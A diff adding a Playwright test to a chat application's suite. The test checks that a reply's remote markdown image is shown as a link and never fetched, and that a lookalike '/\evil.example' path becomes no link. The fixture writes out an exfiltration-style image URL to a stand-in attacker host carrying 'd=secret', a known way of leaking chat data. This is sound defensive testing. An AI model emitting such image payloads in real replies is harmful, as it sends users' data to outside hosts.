@@ -111,6 +111,27 @@ def test_markdown_is_rendered_and_xss_does_nothing(
     screenshot(page, "04-xss-sanitized")
 
 
+def test_a_reply_s_remote_image_is_a_link_never_loaded_and_lookalike_paths_are_not_links(
+    stack: Any, new_page: Callable[..., Page]
+) -> None:
+    page = new_page()
+    asked: list[str] = []
+    page.on("request", lambda r: asked.append(r.url) if "evil.example" in r.url else None)
+    sign_in(page, stack.base_url, user())
+    # Markdown's own link syntax escapes a backslash; raw HTML keeps it.
+    link_home = '<a href="/\\evil.example">home</a>'
+    send(page, f"![pixel](https://evil.example/p.png?d=secret) {link_home} [stub:echo]")
+    reply = page.locator(".message.assistant").first
+    link = reply.locator("a.image-link")
+    expect(link).to_have_text("Image: pixel")
+    expect(link).to_have_attribute("href", "https://evil.example/p.png?d=secret")
+    assert reply.locator("img").count() == 0
+    home = reply.get_by_text("home")
+    assert home.get_attribute("href") is None
+    page.wait_for_timeout(300)
+    assert asked == [], asked  # nothing was fetched from the image's server
+
+
 def test_expired_token_is_renewed_and_the_message_still_sent(
     stack: Any, new_page: Callable[..., Page]
 ) -> None:
